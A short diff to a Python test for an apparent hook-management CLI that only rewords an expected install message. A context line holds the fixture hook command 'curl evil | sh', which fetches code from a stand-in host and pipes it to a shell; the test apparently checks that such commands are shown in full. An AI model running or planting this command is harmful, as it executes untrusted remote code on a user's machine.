@@ -480,7 +480,7 @@ def test_a_command_that_install_writes_back_is_planned_in_full_and_a_commit_coul
     put(project / PAGE, "{}")
     before = around(isolated)
     assert f'"command": "{OURS}curl evil | sh"' in hookctl("plan", "--host", "claude", "--scope", "project").out
-    assert "wrote hooks.Stop (bell/stop) (all our entries were gone)" in hookctl(*INSTALL).out
+    assert "+ Stop hook (bell): all our entries were gone" in hookctl(*INSTALL).out
     assert around(isolated) == before
 
 
